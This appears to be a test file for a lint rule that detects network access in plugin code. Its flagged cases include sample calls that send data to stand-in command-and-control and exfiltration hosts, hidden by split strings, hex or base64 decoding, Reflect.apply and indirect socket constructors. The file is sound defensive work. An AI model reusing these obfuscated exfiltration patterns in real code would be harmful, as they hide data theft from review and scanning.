import { describe, expect, it } from 'vitest';
import rule from '../../rules/no-network.js';
import { declarationCovers } from '../../rules/utils/manifest.js';
import { commonjs, gateReports, inDeclaredPlugin, ruleTester } from './rule-tester.js';

const mod = (line: number, column: number, module?: string) => ({ messageId: 'module', line, column, ...(module && { data: { module } }) });
const global = (line: number, column: number, data?: Record<string, string>) => ({ messageId: 'global', line, column, ...(data && { data }) });

ruleTester.run('no-network', rule, {
  valid: [
    // A default that is only a local function, from an object that is not the global.
    'const { send = () => {} } = options; send("https://api.example");',
    // The standard streams and tty used as streams, and their class only looked at: nothing opens a connection.
    { code: 'const tty = require("tty"); if (tty.isatty(1)) process.stdout.write("x"); const k = process.stdout.constructor.name; const same = process.stdin.constructor === Object;', ...commonjs },
    { code: 'const { Readable } = require("stream"); const Base = Object.getPrototypeOf(Readable.prototype).constructor; new Base();', ...commonjs },
    // A local function named fetch, and methods named like the globals.
    'async function fetch(url) { return cache[url]; } fetch("https://evil.example");',
    'const fetch = (x) => x; fetch("https://evil.example"); api.fetch("/users"); this.fetch(); client.WebSocket;',
    'class C { fetch(u) {} go() { this.fetch("https://x.example"); } }',
    // Words in strings and comments, config keys, modules that only contain the names.
    '// fetch("https://evil.example")\nconst doc = "new WebSocket(url)"; const cfg = { http: 1, net: 2, fetch: true };',
    'import x from "./http.js"; import y from "my-net-utils"; import z from "httpx-docs";',
    { code: 'import type { IncomingMessage } from "node:http"; let m: IncomingMessage;', filename: 'types.ts' },
    // Feature detection does not send anything.
    'if (typeof fetch === "function") { polyfilled = false; }',
    { code: '!function(e){var t=e.fetch||null;e.a=function(n){return n.exec(t)}}({});', ...commonjs },
    // What process says about its handles without handing them out, and an object of the plugin's own with such a method.
    'const kinds = process.getActiveResourcesInfo(); if (typeof process._getActiveHandles === "function") log(kinds.length);',
    'const pool = { _getActiveHandles() { return []; } }; pool._getActiveHandles();',
    // In the editor, a host the manifest declares is only low.

  ],
  invalid: [
    // process's live handles are its sockets, servers and child processes: their classes connect anywhere, however the list is reached.
    {
      code: 'const h = process._getActiveHandles().find((x) => typeof x.connect === "function");\nconst Sock = h.constructor;\nprocess["_get" + "ActiveRequests"]();\nconst list = process._getActiveHandles; list.call(process);\nReflect.apply(globalThis.process._getActiveHandles, process, []);\nrequire("node:process")._getActiveHandles();\nconst { _getActiveHandles: all } = process; all.bind(process)();',
      ...commonjs,
      errors: [{ messageId: 'handles', line: 1, column: 11, data: { name: 'process._getActiveHandles' } }, { messageId: 'handles', line: 3, column: 1, data: { name: 'process._getActiveRequests' } }, { messageId: 'handles', line: 4, column: 41 }, { messageId: 'handles', line: 5, column: 1 }, { messageId: 'handles', line: 6, column: 1 }, { messageId: 'handles', line: 7, column: 45 }],
    },
    // A destructuring default does not take the global out of view: the name holds fetch wherever fetch exists.
    { code: 'const { fetch: send = () => {} } = globalThis;\nsend("https://c2.attacker.example/p");', errors: [global(2, 1, { name: 'fetch', target: "'c2.attacker.example'" })] },
    { code: 'const { ["fe" + "tch"]: go = null } = globalThis;\ngo("https://c2.attacker.example/p");', errors: [global(2, 1, { name: 'fetch', target: "'c2.attacker.example'" })] },
    { code: 'const { WebSocket: Socket = class {} } = global;\nnew Socket("wss://c2.attacker.example");', errors: [global(2, 1)] },
    // Each call of a network module's functions, and each send on what they return, at its own line, with the host when it folds.
    {
      code: 'const https = require("https");\nconst options = { hostname: "x.oastify.com", port: 443 };\nconst req = https.request(options, (res) => {});\nreq.write(JSON.stringify(info));\nreq.end();',
      ...commonjs,
      errors: [mod(1, 15, 'https'), { messageId: 'call', line: 3, column: 13, data: { name: 'https.request', target: "'x.oastify.com'", host: 'x.oastify.com' } }, { messageId: 'call', line: 4, column: 1, data: { name: 'https.request.write', target: 'an address not known before run time' } }, { messageId: 'call', line: 5, column: 1 }],
    },
    { code: 'import axios from "axios";\naxios.post("https://collect.example/u", data);', errors: [mod(1, 1, 'axios'), { messageId: 'call', line: 2, column: 1, data: { name: 'axios.post', target: "'collect.example'", host: 'collect.example' } }] },
    { code: 'const h = require("ht" + "tp");\nh["get"](url);\nReflect.apply(h.request, h, [opts]);', ...commonjs, errors: [mod(1, 11, 'http'), { messageId: 'call', line: 2, column: 1 }, { messageId: 'call', line: 3, column: 1 }] },
    { code: 'const net = require("net");\nconst s = new net.Socket();\nnet.isIP(addr);', ...commonjs, errors: [mod(1, 13, 'net'), { messageId: 'call', line: 2, column: 11, data: { name: 'net.Socket', target: 'an address not known before run time' } }] },
    { code: 'import http from "node:http";', errors: [mod(1, 1, 'http')] },
    // A class is its instances' constructor: tty's and the standard streams' is net.Socket, reached without loading net.
    ...[
      'Object.getPrototypeOf(require("tty").ReadStream.prototype).constructor',
      'require("node:tty").WriteStream.__proto__',
      'process.stdout.constructor',
      'Object.getPrototypeOf(process.stderr).constructor',
      'process.stdin.__proto__.__proto__.constructor',
    ].map((spelling) => ({
      code: `const Socket = ${spelling};\nconst s = new Socket();\ns.connect(443, "192.0.2.10");`,
      ...commonjs,
      errors: [{ messageId: 'call', line: 2, column: 11, data: { name: 'net.Socket', target: 'an address not known before run time' } }],
    })),
    { code: 'const { constructor: Sock } = process.stdout;\nReflect.construct(Sock, []).connect(443, "192.0.2.10");', ...commonjs, errors: [{ messageId: 'call', line: 2, column: 1, data: { name: 'net.Socket.connect', target: 'an address not known before run time' } }, { messageId: 'call', line: 2, column: 1, data: { name: 'net.Socket', target: 'an address not known before run time' } }] },
    { code: 'const net = require("net");\nconst Sock = new net.Socket().constructor;\nnew Sock();', ...commonjs, errors: [mod(1, 13, 'net'), { messageId: 'call', line: 2, column: 14 }, { messageId: 'call', line: 3, column: 1, data: { name: 'net.Socket', target: 'an address not known before run time' } }] },
    // Node's internal aliases of the network modules, by any spelling: judged as the module they hand out.
    {
      code: 'const { ClientRequest } = require("_http_client");\nnew ClientRequest("http://192.0.2.10/c").end();\nrequire("node:_tls_" + "wrap").connect(443, "c2.example");\nimport("_http_agent");',
      ...commonjs,
      errors: [mod(1, 27, 'http'), { messageId: 'call', line: 2, column: 1, data: { name: 'http.ClientRequest', target: "'192.0.2.10'", host: '192.0.2.10' } }, { messageId: 'call', line: 3, column: 1, data: { name: 'tls.connect', target: 'an address not known before run time' } }, mod(3, 1, 'tls'), mod(4, 1, 'http')],
    },
    { code: 'import { connect } from "tls"; export { lookup } from "dns/promises";', errors: [mod(1, 1, 'tls'), mod(1, 32, 'dns')] },
    { code: 'const net = require("n" + "et");', ...commonjs, errors: [mod(1, 13, 'net')] },
    { code: 'const d = require(Buffer.from("646772616d", "hex").toString());', ...commonjs, errors: [mod(1, 11, 'dgram')] },
    { code: 'process.mainModule.require("https").get("https://x.example");', ...commonjs, errors: [{ messageId: 'call', line: 1, column: 1, data: { name: 'https.get', target: "'x.example'", host: 'x.example' } }, mod(1, 1, 'https')] },
    { code: 'const h2 = await import(`node:${"http"}2`);', errors: [mod(1, 18, 'http2')] },
    { code: 'import axios from "axios"; import got from "got"; import { request } from "undici";', errors: [mod(1, 1, 'axios'), mod(1, 28, 'got'), mod(1, 51, 'undici')] },
    { code: 'const WebSocket = require("ws"); const io = require("socket.io-client");', ...commonjs, errors: [mod(1, 19, 'ws'), mod(1, 45, 'socket.io-client')] },
    // fetch, plain and disguised; the host is recorded when the address folds.
    { code: 'await fetch("https://api.example.com/v1/data");', errors: [global(1, 7, { name: 'fetch', target: "'api.example.com'", host: 'api.example.com' })] },
    { code: 'globalThis.fetch(url);', errors: [global(1, 1, { name: 'fetch', target: 'an address not known before run time' })] },
    { code: 'window["fe" + "tch"]("https://" + "exfil.example" + "/c?d=" + data);', errors: [global(1, 1)] },
    { code: 'const f = fetch;\nconst host = "collect.example";\nf(`https://${host}/x`);', errors: [global(3, 1, { name: 'fetch', target: "'collect.example'", host: 'collect.example' })] },
    { code: 'Reflect.apply(fetch, undefined, ["https://a.example/"]);', errors: [global(1, 1, { name: 'fetch', target: "'a.example'", host: 'a.example' })] },
    { code: 'fetch.call(null, new URL("/upload", "https://b.example"));', errors: [global(1, 1, { name: 'fetch', target: "'b.example'", host: 'b.example' })] },
    { code: 'const g = Function("return this")();\ng.fetch(atob("aHR0cHM6Ly9jLmV4YW1wbGU="));', errors: [global(2, 1, { name: 'fetch', target: "'c.example'", host: 'c.example' })] },
    { code: 'const f = typeof fetch === "function" ? fetch : polyfill;\nf("https://d.example/");', errors: [global(2, 1, { name: 'fetch', target: "'d.example'", host: 'd.example' })] },
    { code: 'const go = fetch.bind(globalThis); go("/relative");', errors: [global(1, 36, { name: 'fetch', target: 'an address not known before run time' })] },
    // The other globals.
    { code: 'const ws = new WebSocket("wss://live.example:8443/feed");', errors: [global(1, 12, { name: 'WebSocket', target: "'live.example'", host: 'live.example' })] },
    { code: 'const x = new self.XMLHttpRequest(); x.open("POST", u);', errors: [global(1, 11, { name: 'XMLHttpRequest', target: 'an address not known before run time' })] },
    { code: 'new EventSource("https://sse.example/stream");', errors: [global(1, 1, { name: 'EventSource', target: "'sse.example'", host: 'sse.example' })] },
    { code: 'navigator.sendBeacon("https://t.example/b", body);\nglobalThis.navigator["send" + "Beacon"](u, b);', errors: [global(1, 1, { name: 'navigator.sendBeacon', target: "'t.example'", host: 't.example' }), global(2, 1)] },
    // A host the manifest declares is the broker's to reach (ctx.net.fetch): a socket to it is reported all the same, as is any other host.
    { code: 'fetch("https://api.example.com/v1");\nnew WebSocket("wss://edge.cdn.example.com/");', ...inDeclaredPlugin, errors: [global(1, 1, { name: 'fetch', target: "'api.example.com'", host: 'api.example.com' }), global(2, 1, { name: 'WebSocket', target: "'edge.cdn.example.com'", host: 'edge.cdn.example.com' })] },
    { code: 'fetch("https://api.example.com.evil.example/");', ...inDeclaredPlugin, errors: [global(1, 1, { name: 'fetch', target: "'api.example.com.evil.example'", host: 'api.example.com.evil.example' })] },
    // Handing fetch to other code.
  ],
});

describe('what the gate receives', () => {
  const capture = (code: string) => gateReports('no-network', rule, code);

  it('carries the folded host, and no declaration lowers a direct use', () => {
    const [known, built] = capture('fetch("https://api.example.com/a"); fetch(`https://${"evil"}.example/b`);');
    expect(known.data.host).toBe('api.example.com');
    expect(built.data.host).toBe('evil.example');
    expect(declarationCovers({ network: { hosts: ['api.example.com'] } }, known.kind, known.data)).toBe(false);
  });

  it('leaves the host out when the address is not known', () => {
    const [unknown] = capture('fetch(url);');
    expect(unknown.data).not.toHaveProperty('host');
    expect(unknown.kind).toEqual({ category: 'network', severity: 'high', capability: 'network', grantable: false });
  });
});
